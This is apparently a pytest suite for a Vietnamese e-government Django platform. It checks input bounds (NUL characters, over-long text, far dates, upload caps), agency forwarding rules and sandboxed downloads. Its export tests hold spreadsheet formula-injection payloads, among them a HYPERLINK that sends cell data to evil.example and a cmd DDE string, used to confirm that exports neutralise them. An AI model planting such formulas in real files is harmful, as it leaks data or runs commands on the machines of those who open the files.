"""Bounded input: no text a client sends can make the platform answer 5xx.

PostgreSQL cannot store the NUL character (U+0000) nor a lone UTF-16 surrogate; before the
input guard (core/middleware.py) a `%00` in a path, a query parameter, a form field or a JSON
field reached the database and gave 500 on many endpoints, most of them anonymous. These
tests walk every operation of the OpenAPI document and every page of the URL resolver, as an
anonymous visitor, a signed-in citizen and an officer, and put NUL in every parameter and
field they find: each such request is a 400 with a Vietnamese message. Run them on
PostgreSQL too (DATABASE_URL=postgres://...), where the fault lived."""

import json
import re
from html.parser import HTMLParser
from urllib.parse import quote, urlencode

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from django.urls import path as route

from chinhquyenso.complaints.services import submit_complaint
from chinhquyenso.directory.services import create_token
from chinhquyenso.dossiers.services import submit_dossier
from tests.conftest import birth_body

NUL = "x\x00y"
VI_400 = "không hợp lệ"


@pytest.fixture
def world(people, agency, procedure):
    body = birth_body(agency)
    dossier = submit_dossier(
        actor=people["citizen"],
        procedure=body["procedure"],
        agency=body["agency"],
        applicant=body["applicant"],
        form=body["form"],
    )
    complaint, key = submit_complaint(
        category="procedure",
        title="Thủ tục quá nhiều giấy tờ",
        content="Đề nghị bỏ yêu cầu nộp bản sao giấy khai sinh của cha mẹ.",
        agency=agency.code,
        contact={"name": "Lê Văn Cường", "phone": "0912000111"},
    )
    return {
        "dossier": dossier,
        "complaint": complaint,
        "key": key,
        "procedure": procedure,
        "people": people,
    }


def _clients(people):
    """(name, test client, bearer headers) for anonymous, a citizen and an officer."""
    out = [("anonymous", Client(raise_request_exception=False), {})]
    for name in ("citizen", "receiver"):
        client = Client(raise_request_exception=False)
        client.force_login(people[name])
        out.append((name, client, {"Authorization": f"Bearer {create_token(user=people[name])}"}))
    return out


def _assert_refused(response, what: str, api: bool):
    assert response.status_code == 400, (what, response.status_code, response.content[:300])
    if api:
        assert response["Content-Type"].startswith("application/problem+json"), what
        body = response.json()
        assert body["status"] == 400 and VI_400 in body["detail"], (what, body)
    else:
        assert VI_400 in response.content.decode(), what


# --- the API: every operation of the OpenAPI document --------------------------------------


def _resolve(schema: dict, doc: dict) -> dict:
    while "$ref" in schema:
        name = schema["$ref"].rsplit("/", 1)[-1]
        schema = doc["components"]["schemas"][name]
    if "anyOf" in schema:  # Optional[X]: the first alternative that is not null
        schema = next((s for s in schema["anyOf"] if s.get("type") != "null"), {})
        return _resolve(schema, doc)
    if "allOf" in schema and len(schema["allOf"]) == 1:
        return _resolve(schema["allOf"][0], doc)
    return schema


def _skeleton(schema: dict, doc: dict, depth: int = 0):
    """A plausible value for a schema (strings 'a', numbers 1, objects with every
    property): enough for the request to be read; each string leaf then gets NUL in turn."""
    schema = _resolve(schema, doc)
    kind = schema.get("type")
    if "enum" in schema:
        return schema["enum"][0]
    if kind == "object" or "properties" in schema:
        if depth > 4:
            return {}
        return {k: _skeleton(v, doc, depth + 1) for k, v in schema.get("properties", {}).items()}
    if kind == "array":
        return [_skeleton(schema.get("items", {}), doc, depth + 1)]
    if kind == "integer":
        return 1
    if kind == "number":
        return 1.5
    if kind == "boolean":
        return False
    if schema.get("format") == "date":
        return "2026-11-25"
    if schema.get("format") == "date-time":
        return "2026-11-25T09:00:00+07:00"
    return "a"


def _string_leaves(value, path=()):
    if isinstance(value, dict):
        for k, v in value.items():
            yield from _string_leaves(v, (*path, k))
    elif isinstance(value, list):
        for i, v in enumerate(value):
            yield from _string_leaves(v, (*path, i))
    elif isinstance(value, str):
        yield path


def _with(value, path, leaf):
    if not path:
        return leaf
    copy = dict(value) if isinstance(value, dict) else list(value)
    copy[path[0]] = _with(value[path[0]], path[1:], leaf)
    return copy


def _valid_bodies(world: dict) -> dict:
    """Bodies that pass validation, so that the NUL put in one field reaches the service
    (the skeleton alone would often stop at 422 before any query)."""
    agency = world["dossier"].agency
    return {
        "post /api/v1/dossiers": birth_body(agency),
        "post /api/v1/complaints": {
            "category": "procedure",
            "title": "Thủ tục quá nhiều giấy tờ",
            "content": "Đề nghị bỏ yêu cầu nộp bản sao giấy khai sinh của cha mẹ.",
            "agency": agency.code,
            "contact": {"name": "Lê Văn Cường"},
        },
        "post /api/v1/complaints/{code}/rate": {"rating": "satisfied"},
    }


def _api_requests(doc: dict, world: dict):
    """(method, url, kwargs, what) with NUL in one parameter or field each."""
    samples = {
        "code": world["dossier"].code,
        "action": "accept",
        "number": "1",
        "txn_ref": "x",
        "receipt_id": "1",
        "refund_id": "1",
    }
    for template, item in doc["paths"].items():
        for method, op in item.items():
            params = op.get("parameters", [])
            names = [p["name"] for p in params if p["in"] == "path"]

            def url(nul_in=None, template=template, names=names):
                out = template
                for name in names:
                    value = NUL if name == nul_in else samples.get(name, "1")
                    if name == "code" and value != NUL and "complaints" in template:
                        value = world["complaint"].code
                    out = out.replace("{" + name + "}", quote(value, safe=""))
                return out

            for name in names:
                yield method, url(name), {}, f"{method} {template} path {name}"
            queries = [p["name"] for p in params if p["in"] == "query"]
            if template.endswith("/ipn"):
                queries = ["vnp_TxnRef", "vnp_Amount", "vnp_SecureHash", "vnp_ResponseCode"]
            for name in queries:
                yield (
                    method,
                    f"{url()}?{urlencode({name: NUL})}",
                    {},
                    f"{method} {template} query {name}",
                )
            for name in (p["name"] for p in params if p["in"] == "header"):
                yield (
                    method,
                    url(),
                    {"headers": {name: NUL}},
                    f"{method} {template} header {name}",
                )
            content = op.get("requestBody", {}).get("content", {})
            if "application/json" in content:
                body = _skeleton(content["application/json"]["schema"], doc)
                body.update(_valid_bodies(world).get(f"{method} {template}", {}))
                for leaf in _string_leaves(body):
                    for bad in (NUL, "x\ud800y"):
                        raw = json.dumps(_with(body, leaf, bad))  # \u0000 / \ud800 escapes
                        yield (
                            method,
                            url(),
                            {"data": raw, "content_type": "application/json"},
                            f"{method} {template} body {'.'.join(map(str, leaf))} {bad!r}",
                        )
                yield (
                    method,
                    url(),
                    {"data": b'{"a": "\xff\xfe"}', "content_type": "application/json"},
                    f"{method} {template} body invalid UTF-8",
                )
            if "multipart/form-data" in content:
                schema = _resolve(content["multipart/form-data"]["schema"], doc)
                for name, prop in schema.get("properties", {}).items():
                    if _resolve(prop, doc).get("format") == "binary":
                        continue
                    yield (method, url(), {"data": {name: NUL}}, f"{method} {template} form {name}")


@pytest.mark.django_db
def test_every_api_operation_refuses_nul_with_400(world):
    doc = Client().get("/api/v1/openapi.json").json()
    requests = list(_api_requests(doc, world))
    assert len({r[3].split(" ")[1] for r in requests}) >= 25  # the walk reached the API
    for user, client, auth in _clients(world["people"]):
        for method, url, kwargs, what in requests:
            kwargs = {**kwargs, "headers": {**auth, **kwargs.get("headers", {})}}
            response = getattr(client, method)(
                f"/api/v1{url.removeprefix('/api/v1')}" if not url.startswith("/api/v1") else url,
                **kwargs,
            )
            _assert_refused(response, f"{user}: {what}", api=True)


@pytest.mark.django_db
def test_over_long_text_is_422_not_500(world):
    """PostgreSQL refuses a value longer than its varchar column (SQLite stores it): every
    string field of every JSON body, 5,000 characters long, is a 4xx, never a 5xx."""
    doc = Client().get("/api/v1/openapi.json").json()
    requests = [r for r in _api_requests(doc, world) if "body" in r[3] and "x\\x00y" in r[3]]
    assert len(requests) >= 20
    for user, client, auth in _clients(world["people"]):
        for method, url, kwargs, what in requests:
            raw = kwargs["data"].replace("x\\u0000y", "x" * 5000)
            response = getattr(client, method)(
                url, raw, content_type="application/json", headers=auth
            )
            assert response.status_code < 500, (user, what, response.content[:300])


@pytest.mark.django_db
def test_nul_in_a_session_cookie_is_refused_not_looked_up(world):
    client = Client()
    client.cookies["sessionid"] = "abc\x00def"
    _assert_refused(client.get("/can-bo/"), "cookie", api=False)


# --- every page of the URL resolver ---------------------------------------------------------


def _patterns(patterns, prefix=""):
    for p in patterns:
        if isinstance(p, URLResolver):
            yield from _patterns(p.url_patterns, prefix + str(p.pattern))
        elif isinstance(p, URLPattern):
            yield prefix + str(p.pattern)


class _Forms(HTMLParser):
    """The forms of a page: (method, action, field names)."""

    def __init__(self):
        super().__init__()
        self.forms = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form":
            self.forms.append(
                [(attrs.get("method") or "get").lower(), attrs.get("action") or "", set()]
            )
        elif tag in {"input", "select", "textarea", "button"} and self.forms:
            if attrs.get("name") and attrs.get("type") != "file":
                self.forms[-1][2].add(attrs["name"])


def _page_paths(world):
    dossier, procedure = world["dossier"], world["procedure"]
    attachment = "00000000-0000-0000-0000-000000000000"
    for pattern in _patterns(get_resolver().url_patterns):
        if pattern.startswith("api/v1/"):
            continue  # walked through its OpenAPI document above
        pattern = pattern.replace("^", "").replace("/?$", "").replace("\\", "")
        names = re.findall(r"<(?:(\w+):)?(\w+)>", pattern)

        def build(nul_in=None, pattern=pattern):
            def value(m):
                conv, name = m.group(1) or "str", m.group(2)
                if conv == "int":
                    return "1"
                if conv == "uuid":
                    return attachment
                if name == nul_in:
                    return quote(NUL, safe="")
                if pattern.startswith(("thu-tuc", "ho-so/nop")):
                    return procedure.code
                if pattern.startswith("phan-anh"):
                    return {"code": world["complaint"].code, "key": world["key"] or "x"}.get(
                        name, "answer"
                    )
                return {"code": dossier.code, "action": "accept", "number": "1"}.get(name, "x")

            return "/" + re.sub(r"<(?:(\w+):)?(\w+)>", value, pattern)

        yield build(), [build(name) for conv, name in names if conv in ("", "str", "path")]


@pytest.mark.django_db
def test_every_page_refuses_nul_with_400(world):
    checked = 0
    for user, client, _auth in _clients(world["people"]):
        for path, nul_paths in _page_paths(world):
            for bad in nul_paths:
                _assert_refused(client.get(bad), f"{user}: GET {bad!r}", api=False)
                _assert_refused(client.post(bad, {"a": "b"}), f"{user}: POST {bad!r}", api=False)
            generic = {"q": NUL, "page": NUL, "next": NUL, "code": NUL, "period": NUL}
            _assert_refused(client.get(path, generic), f"{user}: GET {path}?…", api=False)
            _assert_refused(client.post(path, generic), f"{user}: POST {path}", api=False)
            if "dang-xuat" in path:
                continue  # a plain GET would sign the user out for the rest of the walk
            page = client.get(path)
            # 503 is the friendly page of an unreachable identity provider (no VNeID here).
            assert page.status_code < 500 or page.status_code == 503, (user, path, page)
            checked += 1
            if not page.get("Content-Type", "").startswith("text/html"):
                continue
            forms = _Forms()
            forms.feed(page.content.decode(errors="replace"))
            for method, action, fields in forms.forms:
                if not fields or action.startswith(("http", "/idp/")) and action != path:
                    continue
                target = action or path
                data = {name: NUL for name in fields if name != "csrfmiddlewaretoken"}
                if not data:
                    continue
                response = (
                    client.post(target, data) if method == "post" else client.get(target, data)
                )
                _assert_refused(response, f"{user}: {method} {target} {sorted(data)}", api=False)
                long = {name: "x" * 5000 for name in data}  # longer than any column
                response = (
                    client.post(target, long) if method == "post" else client.get(target, long)
                )
                assert response.status_code < 500 or response.status_code == 503, (
                    user,
                    method,
                    target,
                    sorted(long),
                    response.status_code,
                )
    assert checked >= 3 * 70  # three users × every page


@pytest.mark.django_db
def test_text_without_nul_still_goes_through(world, api):
    """The guard refuses only what the database cannot store: ordinary Vietnamese text,
    emoji (a valid surrogate pair in JSON) and a literal backslash-u pass."""
    response = api("citizen").post(
        "/dossiers",
        birth_body(
            world["dossier"].agency,
            applicant={
                "full_name": "Nguyễn Văn An 😀",
                "id_number": "001099012345",
                "phone": "0912345678",
                "email": "an@example.vn",
                "address": r"Số 1 \u0000 Hoàng Văn Thụ",
            },
        ),
    )
    assert response.status_code == 201, response.content
    assert Client().get("/thu-tuc", {"q": "khai sinh"}).status_code == 200


# --- dates: every accepted date is bounded; a stored far date breaks no page ----------------


def _at_leader(people, agency):
    """A dossier received and forwarded by the specialist: the leader's step is current."""
    from chinhquyenso.dossiers import services

    body = birth_body(agency)
    d = submit_dossier(
        actor=people["citizen"],
        procedure=body["procedure"],
        agency=body["agency"],
        applicant=body["applicant"],
        form=body["form"],
    )
    d = services.receive_dossier(actor=people["receiver"], dossier=d)
    return services.forward_dossier(actor=people["specialist"], dossier=d)


def _signed_in(user) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


@pytest.mark.django_db
def test_extension_to_year_9999_is_refused_with_422(people, agency, api):
    d = _at_leader(people, agency)
    leader = api("leader")
    r = leader.post(
        f"/dossiers/{d.code}/actions/extend",
        {"note": "Cần xác minh thêm.", "new_due_at": "9999-12-31T17:00:00+07:00"},
    )
    assert r.status_code == 422, r.content
    assert "2000–2100" in r.json()["detail"]
    d.refresh_from_db()
    assert d.due_at.year == 2026


@pytest.mark.django_db
def test_new_appointment_is_at_most_the_configured_working_days_later(
    people, agency, api, settings
):
    """Received Wed 25/11/2026 09:00, due (4 working days) Tue 01/12/2026 09:00. With a
    ceiling of 5 working days the latest new appointment is Tue 08/12/2026 09:00."""
    settings.CQS_MAX_EXTENSION_WORKING_DAYS = 5
    d = _at_leader(people, agency)
    leader = api("leader")
    url = f"/dossiers/{d.code}/actions/extend"
    r = leader.post(url, {"note": "Chờ xác minh.", "new_due_at": "2026-12-08T09:01:00+07:00"})
    assert r.status_code == 422, r.content
    assert "tối đa 5 ngày làm việc" in r.json()["detail"]
    assert "09:00 ngày 08/12/2026" in r.json()["detail"]
    r = leader.post(url, {"note": "Chờ xác minh.", "new_due_at": "2026-12-08T09:00:00+07:00"})
    assert r.status_code == 200, r.content
    assert r.json()["due_at"].startswith("2026-12-08T09:00")


@pytest.mark.django_db
def test_extension_to_year_9999_in_the_back_office_is_refused(people, agency):
    d = _at_leader(people, agency)
    r = _signed_in(people["leader"]).post(
        f"/can-bo/ho-so/{d.code}/thao-tac/extend",
        {"note": "Lý do", "new_due_at": "9999-12-31T17:00"},
    )
    assert r.status_code == 422
    assert "2000–2100" in r.content.decode()


@pytest.mark.django_db
def test_a_due_date_in_9999_stored_in_the_database_breaks_no_page(people, agency, clock):
    """A row written before the bound (or by hand): the officers' pages and the early-warning
    digest still work (the working-day engine counts it as the edge of its horizon)."""
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from django.core.management import call_command

    from chinhquyenso.dossiers.models import Dossier, DossierStep

    d = _at_leader(people, agency)
    far = datetime(9999, 12, 31, 17, 0, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh"))
    Dossier.objects.filter(pk=d.pk).update(due_at=far)
    DossierStep.objects.filter(dossier=d).update(due_at=far)
    for who in ("receiver", "specialist", "leader"):
        client = _signed_in(people[who])
        for url in ("/can-bo/", f"/can-bo/ho-so/{d.code}"):
            assert client.get(url).status_code == 200, (who, url)
    assert _signed_in(people["leader"]).get("/can-bo/phe-duyet").status_code == 200
    call_command("planning", "digest")
    clock.set("2026-12-24T09:00")  # later, with the dossier now "open for long"
    assert _signed_in(people["leader"]).get("/can-bo/").status_code == 200
    call_command("planning", "digest")


def test_the_working_day_engine_holds_dates_outside_its_horizon():
    from datetime import date, datetime
    from zoneinfo import ZoneInfo

    from chinhquyenso.core.workcalendar import DEFAULT_CALENDAR as cal

    vn = ZoneInfo("Asia/Ho_Chi_Minh")
    now = datetime(2026, 11, 25, 9, 0, tzinfo=vn)
    far = datetime(9999, 12, 31, 23, 59, tzinfo=ZoneInfo("UTC"))
    assert cal.working_minutes_between(now, far) > 0
    assert cal.working_minutes_between(far, now) == 0
    assert cal.add_working_minutes(far, 450).year <= 2101
    assert cal.add_working_days(now, 10**9).year <= 2101  # saturates, no OverflowError
    assert cal.is_working_day(date(9999, 12, 31)) is True  # a Friday
    assert cal.day_off_reason(date(9999, 12, 25)) == "Thứ Bảy"
    assert cal.working_minutes_between(datetime(1, 1, 1, tzinfo=ZoneInfo("UTC")), now) > 0


@pytest.mark.django_db
def test_other_accepted_dates_are_bounded(people, agency, api):
    from chinhquyenso.core.calendar import set_calendar_day
    from chinhquyenso.core.errors import ValidationFailed

    r = api("receiver").get("/register", date_from="9999-12-01", date_to="9999-12-31")
    assert r.status_code == 422 and "2000–2100" in r.json()["detail"]
    with pytest.raises(ValidationFailed, match="2000–2100"):
        from datetime import date

        set_calendar_day(actor=None, day=date(9999, 1, 4), working=False, reason="QĐ 1")


# --- forwarding: only to an agency of the procedure's process ------------------------------


def _at_specialist(people, agency):
    from chinhquyenso.dossiers import services

    body = birth_body(agency)
    d = submit_dossier(
        actor=people["citizen"],
        procedure=body["procedure"],
        agency=body["agency"],
        applicant=body["applicant"],
        form=body["form"],
    )
    return services.receive_dossier(actor=people["receiver"], dossier=d)


@pytest.mark.django_db
def test_forward_to_an_agency_outside_the_process_is_422(people, agency, other_agency, api):
    """Sở Tư pháp neither receives the birth registration nor runs a step of it: a dossier
    cannot be sent there; once declared a partner of the procedure, it can."""
    d = _at_specialist(people, agency)
    url = f"/dossiers/{d.code}/actions/forward"
    r = api("specialist").post(url, {"agency": other_agency.code})
    assert r.status_code == 422, r.content
    assert "không tham gia quy trình" in r.json()["detail"]
    d.refresh_from_db()
    assert d.current_agency == agency
    assert api("other_specialist").get(f"/dossiers/{d.code}").status_code == 404

    world_procedure = d.procedure
    world_procedure.partners.add(other_agency)
    r = api("specialist").post(url, {"agency": other_agency.code})
    assert r.status_code == 200, r.content
    d.refresh_from_db()
    assert d.current_agency == other_agency


@pytest.mark.django_db
def test_an_agency_named_by_a_step_may_receive_the_dossier(people, agency, other_agency, api):
    d = _at_specialist(people, agency)
    d.procedure.steps.filter(position=3).update(agency_key=other_agency.key)
    r = api("specialist").post(f"/dossiers/{d.code}/actions/forward", {"agency": other_agency.code})
    assert r.status_code == 200, r.content


@pytest.mark.django_db
def test_the_back_office_offers_and_accepts_only_agencies_of_the_process(
    people, agency, other_agency
):
    from chinhquyenso.directory.models import Agency, AgencyKind

    stranger = Agency.objects.create(
        code="000.00.15.H31",
        key="SO_YT",
        name="Sở Y tế",
        kind=AgencyKind.DEPARTMENT,
        unit=agency.unit.parent,
        working_hours=[["07:30", "11:30"], ["13:30", "17:00"]],
    )
    d = _at_specialist(people, agency)
    d.procedure.partners.add(other_agency)
    specialist = _signed_in(people["specialist"])
    page = specialist.get(f"/can-bo/ho-so/{d.code}").content.decode()
    assert f'<option value="{other_agency.code}">' in page
    assert f'<option value="{stranger.code}">' not in page
    r = specialist.post(f"/can-bo/ho-so/{d.code}/thao-tac/forward", {"agency": stranger.code})
    assert r.status_code == 422
    assert "không tham gia quy trình" in r.content.decode()
    d.refresh_from_db()
    assert d.current_agency == agency


# --- exports: no cell a spreadsheet would run as a formula ---------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _read_csv(response) -> list[list[str]]:
    import csv
    import io

    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _read_xlsx(response):
    import io

    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(response.content)).active


def test_table_export_neutralises_formulas_in_csv_and_xlsx():
    from chinhquyenso.core.exports import table_response

    rows = [[text, 5, -3] for text in HOSTILE] + [["Bình thường", 1, 2], ["a\x0bb", 0, 0]]
    csv_rows = _read_csv(table_response("t", ["Tiêu đề", "Số", "Âm"], rows, "csv"))
    for text, row in zip(HOSTILE, csv_rows[1:], strict=False):
        assert row[0] == "'" + text
    assert csv_rows[7][0] == "Bình thường" and csv_rows[2][2] == "-3"
    ws = _read_xlsx(table_response("t", ["Tiêu đề", "Số", "Âm"], rows, "xlsx"))
    for i, text in enumerate(HOSTILE, start=2):
        cell = ws.cell(row=i, column=1)
        assert cell.data_type == "s" and cell.value == "'" + text
    assert ws.cell(row=2, column=3).value == -3 and ws.cell(row=2, column=3).data_type == "n"
    assert ws.cell(row=9, column=1).value == "ab"  # a control character XML cannot hold


@pytest.mark.django_db
def test_a_complaint_titled_like_a_formula_is_text_in_the_monitoring_exports(people, agency):
    from chinhquyenso.complaints.services import submit_complaint

    title = '=HYPERLINK("http://evil.example/","Xem")'
    submit_complaint(
        category="procedure",
        title=title,
        content="Nội dung phản ánh đủ dài để được tiếp nhận.",
        agency=agency.code,
        contact={"name": "Lê Văn Cường", "phone": "0912000111"},
    )
    monitor = _signed_in(people["monitor"])
    url = "/giam-sat/chi-tiet"
    params = {"indicator": "5.1", "period": "2026", "part": "all"}
    r = monitor.get(url, {**params, "format": "csv"})
    assert r.status_code == 200, r.content[:500]
    cells = [c for row in _read_csv(r) for c in row]
    assert "'" + title in cells and title not in cells
    r = monitor.get(url, {**params, "format": "xlsx"})
    ws = _read_xlsx(r)
    found = [c for row in ws.iter_rows() for c in row if c.value == "'" + title]
    assert found and all(c.data_type == "s" for c in found)
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]


# --- uploads: the body is capped before it is read; downloads are sandboxed ----------------

HUNDRED_MB = 100 * 1024 * 1024
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def _claiming(client: Client, path: str, length: int, **extra):
    """A POST that announces `length` bytes but carries a few: the test client's payload
    refuses to be read past what it holds, so a 413 here proves nothing read the body."""
    return client.generic(
        "POST",
        path,
        data=b"--X\r\n",
        content_type="multipart/form-data; boundary=X",
        CONTENT_LENGTH=str(length),
        **extra,
    )


@pytest.mark.django_db
def test_a_100_mb_upload_is_413_before_it_is_read(people, procedure):
    api_client = Client(raise_request_exception=False)
    token = create_token(user=people["citizen"])
    r = _claiming(api_client, "/api/v1/files", HUNDRED_MB, HTTP_AUTHORIZATION=f"Bearer {token}")
    assert r.status_code == 413
    assert r["Content-Type"].startswith("application/problem+json")
    assert "quá lớn" in r.json()["detail"] and "20 MB" in r.json()["detail"]
    portal = _signed_in(people["citizen"])
    r = _claiming(portal, "/ho-so/nop/1.001193/tep", HUNDRED_MB)
    assert r.status_code == 413 and "quá lớn" in r.content.decode()
    r = _claiming(Client(raise_request_exception=False), "/phan-anh/", HUNDRED_MB)
    assert r.status_code == 413  # anonymous pages too


@pytest.mark.django_db
def test_the_cap_follows_the_setting_and_a_chunked_body_needs_a_length(people, settings):
    settings.CQS_MAX_REQUEST_BYTES = 1000
    client = Client(raise_request_exception=False)
    assert _claiming(client, "/api/v1/files", 1001).status_code == 413
    assert _claiming(client, "/api/v1/files", 1000).status_code != 413
    r = client.generic(
        "POST", "/api/v1/files", data=b"", HTTP_TRANSFER_ENCODING="chunked", CONTENT_LENGTH=""
    )
    assert r.status_code == 411 and "Content-Length" in r.json()["detail"]


def test_django_refuses_oversized_form_data_too(settings):
    from django.conf import settings as live

    assert live.DATA_UPLOAD_MAX_MEMORY_SIZE == live.CQS_MAX_REQUEST_BYTES
    assert live.CQS_MAX_REQUEST_BYTES < HUNDRED_MB


def _citizen_dossier_with_file(people, agency):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from chinhquyenso.dossiers.models import Attachment
    from chinhquyenso.dossiers.services import store_attachment

    body = birth_body(agency)
    d = submit_dossier(
        actor=people["citizen"],
        procedure=body["procedure"],
        agency=body["agency"],
        applicant=body["applicant"],
        form=body["form"],
    )
    att = store_attachment(actor=people["citizen"], upload=SimpleUploadedFile("giấy tờ.pdf", PDF))
    Attachment.objects.filter(pk=att.pk).update(dossier=d)
    return d, att


def _assert_sandboxed(response, what: str):
    assert response.status_code == 200, (what, response.status_code)
    assert response["X-Content-Type-Options"] == "nosniff", what
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox", what
    assert "filename" in response["Content-Disposition"], what
    assert response["Cache-Control"] == "private, no-store", what


@pytest.mark.django_db
def test_citizen_downloads_carry_the_back_office_sandbox_headers(people, agency):
    from chinhquyenso.dossiers import services

    d, att = _citizen_dossier_with_file(people, agency)
    services.receive_dossier(actor=people["receiver"], dossier=d)
    citizen = _signed_in(people["citizen"])
    officer = _signed_in(people["receiver"])
    cases = [
        (citizen, f"/ca-nhan/ho-so/{d.code}/tep/{att.pk}", "inline"),
        (citizen, f"/ca-nhan/ho-so/{d.code}/mau-01.pdf", "attachment"),
        (citizen, f"/ho-so/{d.code}/bien-nhan.pdf", "attachment"),
        (officer, f"/can-bo/ho-so/{d.code}/tep/{att.pk}", "inline"),
        (officer, f"/can-bo/ho-so/{d.code}/mau/01", "inline"),
    ]
    for client, url, disposition in cases:
        r = client.get(url)
        _assert_sandboxed(r, url)
        assert r["Content-Disposition"].startswith(disposition), url
    r = citizen.get(f"/ca-nhan/ho-so/{d.code}/tep/{att.pk}")
    assert "filename*=utf-8''gi%E1%BA%A5y%20t%E1%BB%9D.pdf" in r["Content-Disposition"]
    assert b"".join(r.streaming_content) == PDF


@pytest.mark.django_db
def test_a_form_date_in_year_9999_is_422(people, agency, api):
    body = birth_body(agency)
    body["form"] = {**body["form"], "child_birth_date": "9999-12-31"}
    r = api("citizen").post("/dossiers", body)
    assert r.status_code == 422, r.content
    assert "1900–2100" in r.json()["detail"]


@pytest.mark.django_db
def test_the_calendar_page_refuses_year_9999(people):
    from chinhquyenso.directory.services import add_user

    admin = add_user(username="qtt", role="province_admin", full_name="Đặng Thị Hồng")
    r = _signed_in(admin).post(
        "/can-bo/quan-tri/lich",
        {"op": "set", "date": "9999-01-04", "working": "0", "reason": "QĐ 1/QĐ-UBND"},
    )
    assert r.status_code == 422 and "2000–2100" in r.content.decode()


@pytest.mark.django_db
def test_control_characters_in_typed_text_are_422(people, agency, api):
    """Below the NUL guard, the API's schemas refuse the other control characters (a bell, an
    escape…) in names, addresses, titles and notes; tab and new line stay allowed."""
    body = {
        "category": "procedure",
        "title": "Đèn\x1b[31m hỏng",
        "content": "Dòng một\nDòng hai\tcột",
        "agency": agency.code,
        "contact": {"name": "Lê Văn Cường", "phone": "0912000111"},
    }
    r = api("citizen").post("/complaints", body)
    assert r.status_code == 422, r.content
    assert "title chứa ký tự điều khiển không được phép" in r.json()["detail"]
    r = api("citizen").post("/complaints", {**body, "title": "Đèn hỏng"})
    assert r.status_code == 201, r.content
    applicant = {**birth_body(agency)["applicant"], "address": "Số 1\x07 Hoàng Văn Thụ"}
    r = api("citizen").post("/dossiers", birth_body(agency, applicant=applicant))
    assert r.status_code == 422 and "applicant.address" in r.json()["detail"]


def _refused_by_the_database(request):
    from django.db import DataError

    raise DataError("value too long for type character varying(60)")


# A URL configuration for the next test only: one API path and one page that hit the net.
urlpatterns = [
    route("api/v1/boom", _refused_by_the_database),
    route("boom", _refused_by_the_database),
]


@pytest.mark.urls(__name__)
def test_a_value_the_database_refuses_is_422_not_500():
    """The net under validation: whatever value PostgreSQL refuses (too long for its column,
    out of range) and validation missed, the sender gets a 422 in Vietnamese, not a 500."""
    client = Client(raise_request_exception=False)
    r = client.get("/api/v1/boom")
    assert r.status_code == 422 and r["Content-Type"].startswith("application/problem+json")
    assert "quá dài" in r.json()["detail"]
    r = client.get("/boom")
    assert r.status_code == 422 and "quá dài" in r.content.decode()
